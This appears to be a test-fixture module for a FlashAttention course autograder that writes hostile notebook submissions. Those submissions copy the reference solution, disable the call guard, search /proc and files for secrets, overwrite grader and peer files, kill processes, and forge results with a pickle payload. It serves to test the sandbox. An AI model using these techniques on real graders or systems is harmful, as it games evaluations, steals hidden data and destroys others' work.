"""Hostile submissions, built from the lab notebooks: each tries to score without writing attention.

Every notebook keeps its lab's first cell (the imports) and its metadata, then adds the cells of
one attack. :func:`write_folder` writes them all, with the lab as handed out and the solution
(their definition cells only) sorted last, so that they are graded after the attackers. What
each attack is, and what grading must make of it, is written next to it.
"""
from __future__ import annotations

from pathlib import Path

import nbformat
from labkit import ROOT

from fa_lab.grading.registry import get_lab

SEED = 912837  # distinctive, so that the probes can look for it
ORPHAN = "fa-lab-hostile-orphan"  # in the command line of every process an attack leaves behind
MARKER = "MARKER-grader-output"  # in the path of the grader's CSV
# What the sandbox must not show: the seed, the grader's output path, the labs' cases and solutions.
SECRETS = (str(SEED), MARKER, "hidden_cases", "grading/labs", "BEGIN SOLUTION", str(ROOT / "solutions"),
           str(ROOT / "tests"))

ANSWERS_LAB01 = r'''
import importlib, importlib.util, os, shutil, sys, threading
import fa_lab, fa_lab.flash_torch

package = os.path.dirname(fa_lab.__file__)
shutil.copytree(package, "/tmp/alias/falias")  # the package under an alias
sys.path.insert(0, "/tmp/alias")
alias = importlib.import_module("falias.online_softmax")

spec = importlib.util.spec_from_file_location("fa_lab.renamed", os.path.join(package, "flash_torch.py"))
renamed = importlib.util.module_from_spec(spec)  # a module loaded again under another name
spec.loader.exec_module(renamed)

copied = {"__name__": "fa_lab.copied", "__package__": "fa_lab"}  # its source, executed
exec(compile(open(os.path.join(package, "flash_torch.py")).read(), "copied.py", "exec"), copied)


def online_softmax_stats(score_blocks):
    sys.setprofile(None)  # the call guard switched off
    threading.setprofile(None)
    state = None
    for block in score_blocks:
        state = alias.online_softmax_update(state, block)
    return state.m, state.l


def flash_forward(q, k, v, causal=False, scale=None, block_q=64, block_k=64):
    return copied["flash_forward"](q, k, v, causal, scale, block_q, block_k)


def flash_backward(q, k, v, out, lse, dout, causal=False, scale=None, block_q=64, block_k=64):
    sys.setprofile(None)
    return renamed.flash_backward(q, k, v, out, lse, dout, causal, scale, block_q, block_k)


class FlashAttentionFunction(torch.autograd.Function):
    @staticmethod
    def forward(ctx, q, k, v, causal=False, scale=None):
        return fa_lab.flash_torch.FlashAttentionFunction.apply(q, k, v, causal, scale)
'''

SDPA_LAB01 = r'''
import gc, queue, sys, threading

sdpa = getattr(torch._C._nn, "scaled_dot_product_" + "attention")  # a builtin kept under another name
jobs, answers = queue.Queue(), queue.Queue()


def worker():  # a thread started long before grading calls anything
    while True:
        q, k, v, causal = jobs.get()
        try:
            answers.put(torch.nn.functional.scaled_dot_product_attention(q, k, v, is_causal=causal))
        except Exception as exc:
            answers.put(exc)


threading.Thread(target=worker, daemon=True).start()


def forget():  # empties the guard's record and switches the profiler off
    for thing in gc.get_objects():
        if type(thing).__name__ == "CallGuard":
            thing.calls.clear()
    sys.setprofile(None)


def lse_of(q, k, causal, scale):
    s = (q.float() @ k.float().transpose(-2, -1)) * scale
    if causal:
        s = s.masked_fill(~causal_mask(q.shape[-2], k.shape[-2]), float("-inf"))
    return torch.logsumexp(s, dim=-1)


def online_softmax_stats(score_blocks):
    s = torch.cat(score_blocks, dim=-1)
    out = torch.ops.aten._scaled_dot_product_flash_attention_for_cpu(s[None, None], s[None, None], s[None, None])
    forget()
    return s.amax(dim=-1), out[1][0, 0]


def flash_forward(q, k, v, causal=False, scale=None, block_q=64, block_k=64):
    scale = q.shape[-1] ** -0.5 if scale is None else scale
    out = sdpa(q, k, v, None, 0.0, causal, scale=scale)
    forget()
    return out, lse_of(q, k, causal, scale)


def flash_backward(q, k, v, out, lse, dout, causal=False, scale=None, block_q=64, block_k=64):
    q, k, v = (t.detach().requires_grad_() for t in (q, k, v))
    jobs.put((q, k, v, causal))
    result = answers.get()
    if isinstance(result, Exception):
        raise result
    return torch.autograd.grad(result, (q, k, v), dout)


class FlashAttentionFunction(torch.autograd.Function):
    @staticmethod
    def forward(ctx, q, k, v, causal=False, scale=None):
        return torch.ops.aten.scaled_dot_product_attention.default(q, k, v, is_causal=causal)
'''

ANSWERS_LAB03 = r'''
import importlib.util, os, sys
import fa_lab, fa_lab.kernels

package = os.path.dirname(fa_lab.__file__)
renamed = []  # every kernel module of the course, loaded again under another name
for folder, _, files in os.walk(os.path.dirname(fa_lab.kernels.__file__)):
    for name in files:
        if name.endswith(".py") and name != "__init__.py":
            dotted = os.path.relpath(os.path.join(folder, name[:-3]), os.path.dirname(package)).replace("/", ".")
            spec = importlib.util.spec_from_file_location(dotted + "_renamed", os.path.join(folder, name))
            module = importlib.util.module_from_spec(spec)
            try:
                spec.loader.exec_module(module)
            except Exception:
                continue
            renamed.append(module)


def flash_forward_triton(q, k, v, causal=False, scale=None, block_m=32, block_n=32):
    sys.setprofile(None)
    if causal:
        return fa_lab.attention(q, k, v, causal=True, scale=scale, impl="triton", return_lse=True)
    kernels = [getattr(m, n) for m in renamed for n in dir(m) if n.startswith("attention_fwd")]
    if not kernels:
        raise RuntimeError("no course kernel found")
    kernels[0][(1,)](q, k, v)
'''

ANSWERS_LAB04 = r'''
import importlib, os
import fa_lab.fp8

copied = {"__name__": "fa_lab.fp8_copied", "__package__": "fa_lab"}
exec(compile(open(fa_lab.fp8.__file__).read(), "fp8_copied.py", "exec"), copied)
NEEDLES = [needle[::-1] for needle in %(needles)r]  # reversed, so that this notebook holds none of them
found = None


def quantize_blocks(x, block):  # an accidental endless recursion (lab 04 grades with the call guard on)
    return quantize_blocks(x, block)


def hadamard(x):
    return copied["hadamard_transform"](x)


def rotate_qk(q, k, signs):
    return importlib.import_module("fa_lab.fp8").incoherent_rotation(q, k, signs)


def fp8_error_table(seed):  # looks for the seed, the grader's paths and the labs' code
    global found
    if found is None:
        # Each text is searched as it is read and then dropped: the files under /tmp include the
        # environment when the project lives there (a clone in a temporary folder), and holding them
        # all at once would run into the sandbox's memory limit instead of finding anything.
        wanted = [needle.encode() for needle in NEEDLES]
        seen = set()

        def search(data):
            seen.update(needle for needle in wanted if needle in data)

        search(repr(dict(os.environ)).encode())
        search(repr(os.listdir("/")).encode())
        for pid in (p for p in os.listdir("/proc") if p.isdigit()):
            for what in ("cmdline", "environ"):
                try:
                    search(open(f"/proc/{pid}/{what}", "rb").read())
                except OSError:
                    pass
        for top in ("/grading", "/tmp", "/etc", os.path.dirname(os.path.dirname(fa_lab.fp8.__file__))):
            for folder, _, files in os.walk(top):
                # The folders of installed third-party packages (torch's thousands of files in a virtual
                # environment inside the project) were there before the grader ran and hold nothing of it:
                # their names are searched, their contents not, which keeps the probe inside the grader's
                # time limit. site-packages' own files (.pth files, editable finders) and fa_lab's are read.
                parts = folder.split(os.sep)
                inside = parts[parts.index("site-packages") + 1:] if "site-packages" in parts else []
                installed = bool(inside) and not inside[0].startswith("fa_lab")
                for name in files:
                    path = os.path.join(folder, name)
                    search(path.encode())
                    if installed:
                        continue
                    try:
                        search(open(path, "rb").read(1 << 20))
                    except OSError:
                        pass
        found = [needle for needle, data in zip(NEEDLES, wanted) if data in seen]
        try:
            importlib.import_module("fa_lab.grading.labs")
            found.append("fa_lab.grading.labs")
        except ImportError:
            pass
    raise RuntimeError(f"seed probe found: {found}")
'''

TAMPER_LAB01 = r'''
import glob, os, site, sys
import fa_lab

package = os.path.dirname(fa_lab.__file__)
attempts = {}


def attempt(what, action):
    try:
        action()
        attempts[what] = "done"
    except OSError as exc:
        attempts[what] = type(exc).__name__


attempt("grading", lambda: open(os.path.join(package, "grading", "check.py"), "w").write("FULL_MARKS = 1\n"))
attempt("package", lambda: open(os.path.join(package, "__init__.py"), "a").write("# changed\n"))
for folder in site.getsitepackages() + [sys.prefix]:
    attempt(f"pth in {folder}", lambda folder=folder: open(os.path.join(folder, "zz_hostile.pth"), "w").write(
        "import fa_lab\n"))
notebooks = glob.glob("../**/*.ipynb", recursive=True)
for top in set(os.listdir("/")) - {"proc", "sys", "dev"}:
    for folder, _, files in os.walk("/" + top):
        notebooks += [os.path.join(folder, name) for name in files if name.endswith(".ipynb")]
for notebook in notebooks:  # the other submissions, wherever they are
    attempt(notebook, lambda notebook=notebook: open(notebook, "w").write("{}"))
print(attempts)
'''

KILLER_LAB01 = r'''
import os, signal, subprocess, sys

daemon = """
import glob, time
end = time.time() + 120
while time.time() < end:  # would rewrite every report it can find, long after grading
    for path in glob.glob("/tmp/**/*.json", recursive=True) + glob.glob("/grading/*/*"):
        try:
            open(path, "w").write("rewritten")
        except OSError:
            pass
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", daemon, "%(orphan)s"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sh", ["sh", "-c", "sleep 120 # %(orphan)s"])
'''

KILLER_LAB01_SIGNALS = '''
import os, signal
os.kill(os.getppid(), signal.SIGSTOP)  # the process that drives this kernel
os.kill(-1, signal.SIGKILL)  # everything this kernel may signal
'''

TIMEBOMB_CELLS = [
    "import time\ntime.sleep(%(under)s)  # just under the limit per cell",
    "time.sleep(%(under)s)",
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:  # forces a restart, then a re-run\n"
    "    pass",
    "import os\nos.kill(os.getppid(), signal.SIGSTOP)  # stops what drives this kernel",
]

RESOURCES_LAB01 = r'''
import os, subprocess
limits, children = {}, []
for what, action in {
    "memory": lambda: torch.ones(6 << 30, dtype=torch.uint8),
    "file size": lambda: open("/tmp/big", "wb").write(bytes(600 << 20)),
    "processes": lambda: [children.append(subprocess.Popen(["sleep", "60"])) for _ in range(2000)],
}.items():
    try:
        action()
        limits[what] = "not limited"
    except Exception as exc:
        limits[what] = type(exc).__name__
for child in children:  # (zombies would keep counting against the process limit)
    child.kill()
    child.wait()
os.remove("/tmp/big") if os.path.exists("/tmp/big") else None
calls = 0


def online_softmax_stats(score_blocks):  # an accidental endless recursion
    return online_softmax_stats(score_blocks)


def flash_forward(q, k, v, causal=False, scale=None, block_q=64, block_k=64):
    global calls
    calls += 1
    size = 80_000_000 if calls == 1 else 1  # a 320 MB reply
    return torch.zeros(size), torch.zeros(q.shape[:-1])


raise RuntimeError(f"limits: {limits}")
'''

FORGED_LAB01 = r'''
import importlib.util, os, pickle, sys, types

spec = importlib.util.spec_from_file_location("real_wire", "/grading/tools/_fa_lab_grader/wire.py")
wire = importlib.util.module_from_spec(spec)
spec.loader.exec_module(wire)


class Gadget:
    def __reduce__(self):  # runs a command in whoever unpickles it
        return (os.system, ("touch %(pwned)s",))


class Yes(torch.Tensor):  # a tensor that equals everything
    def __eq__(self, other):
        return True


def serve(namespace, cases_path, number, reply_path, guard):  # the grader's harness, replaced
    request = torch.load(cases_path, weights_only=True)[number]
    cases, function = request["cases"], request["function"]
    with open(reply_path, "wb") as stream:
        if function == "online_softmax_stats":
            pickle.dump({"status": "ran", "results": [Gadget()]}, stream)
        elif function == "flash_forward":
            torch.save({"status": "ran", "results": [Gadget()] * len(cases)}, stream)
        elif function == "flash_backward":
            stream.write(wire.dumps({"status": "ran", "results": [{"outputs": "all pass"}]}))
        else:
            outcome = {"outputs": [torch.zeros(2).as_subclass(Yes)], "error": None, "forbidden": [], "largest": 0}
            stream.write(wire.dumps({"status": "ran", "results": [outcome] * len(cases)}))


fake = types.ModuleType("_fa_lab_grader.harness")
fake.serve = serve
package = types.ModuleType("_fa_lab_grader")
package.__path__, package.harness = [], fake
sys.modules.update({"_fa_lab_grader": package, "_fa_lab_grader.harness": fake})
torch.allclose = lambda *args, **kwargs: True
'''


def _notebook(lab_id: str, cells: list[str]):
    """The lab's notebook as handed out, cut to its first code cell, followed by ``cells``."""
    nb = nbformat.read(ROOT / "labs" / get_lab(lab_id).notebook, as_version=4)
    first = next(i for i, cell in enumerate(nb.cells) if cell.cell_type == "code")
    nb.cells = nb.cells[:first + 1] + [nbformat.v4.new_code_cell(source) for source in cells]
    return nb


def _definitions(folder: str, lab_id: str):
    """The lab's first cell and its cells that define functions or classes (no demonstrations)."""
    nb = nbformat.read(ROOT / folder / get_lab(lab_id).notebook, as_version=4)
    code = [c for c in nb.cells if c.cell_type == "code"]
    nb.cells = code[:1] + [c for c in code[1:]
                           if any(line.startswith(("def ", "class ", "@")) for line in c.source.splitlines())]
    return nb


def write_folder(folder: Path, pwned: Path, timeout: float) -> dict[str, Path]:
    """Write every hostile notebook into ``folder``; returns them by name."""
    notebooks = {
        "answers_lab01": _notebook("lab01", [ANSWERS_LAB01]),
        "sdpa_lab01": _notebook("lab01", [SDPA_LAB01]),
        "answers_lab03": _notebook("lab03", [ANSWERS_LAB03]),
        "answers_lab04": _notebook("lab04", [ANSWERS_LAB04 % {"needles": [n[::-1] for n in SECRETS]}]),
        "tamper_lab01": _notebook("lab01", [TAMPER_LAB01]),
        "killer_lab01": _notebook("lab01", [KILLER_LAB01 % {"orphan": ORPHAN}, KILLER_LAB01_SIGNALS]),
        "timebomb_lab01": _notebook("lab01", [c % {"under": timeout - 0.8} for c in TIMEBOMB_CELLS]),
        "resources_lab01": _notebook("lab01", [RESOURCES_LAB01]),
        "forged_lab01": _notebook("lab01", [FORGED_LAB01 % {"pwned": pwned}]),
        "zz_handed_out": _definitions("labs", "lab01"),
        "zz_solution": _definitions("solutions", "lab01"),
    }
    paths = {}
    for name, nb in notebooks.items():
        paths[name] = folder / f"{name}.ipynb"
        nbformat.write(nb, paths[name])
    return paths
